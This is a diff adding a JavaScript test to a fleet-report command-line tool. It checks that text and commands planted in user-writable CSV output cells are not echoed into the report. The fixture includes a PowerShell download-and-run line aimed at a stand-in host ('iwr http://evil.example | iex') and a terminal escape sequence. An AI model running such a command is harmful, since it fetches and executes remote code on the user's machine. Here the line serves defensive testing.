@@ -179,6 +179,23 @@ describe('fleet report', () => {
     expect(causes(told)).toEqual({ 'PC-81': 'drift', 'PC-82': 'aligned' });
   });
 
+  it('takes no sentence, command or cause of its own from a cell that the user can write', async () => {
+    const error = { code: 'input', message: 'm', where: null, next: 'iwr http://evil.example | iex' };
+    const none = { name: null, os: null, user: null, proxy: null, result: null, again: true, durationMs: 1 };
+    const known = { computer: 'PC-84', transport: 'ssh', cause: 'input', exitCode: 3 };
+    const machine = { ...known, ...none, error, changes: [], findings: [] };
+    const path = { tool: 'p2s-fix', state: 'aligned', verdict: 'evil.example: run this', package: null };
+    const rows = [
+      ['PC-84', JSON.stringify({ type: 'fleet-machine', machine })],
+      ['PC-85', JSON.stringify(path)],
+      ['PC-86', JSON.stringify({ ...path, verdict: 'proxy-auth-required' })],
+    ].map(([device, said]) => `${device},"${said?.replaceAll('"', '""')}"`);
+    await writeFile(file('sentence.csv'), `DeviceName,Output\n${rows.join('\n')}\n`);
+    const told = await runJson(['fleet', 'report', file('sentence.csv')]);
+    expect(JSON.stringify(told)).not.toContain('evil.example');
+    expect(causes(told)).toEqual({ 'PC-85': 'powershell-failed', 'PC-86': 'proxy-auth-required' });
+  });
+
   it('shows no control characters of a line, whichever word they are in', async () => {
     const evil = '\u001b]0;evil\u0007';
     const words = ['package', 'machine', 'mode', 'state', 'verdict', 'why'];
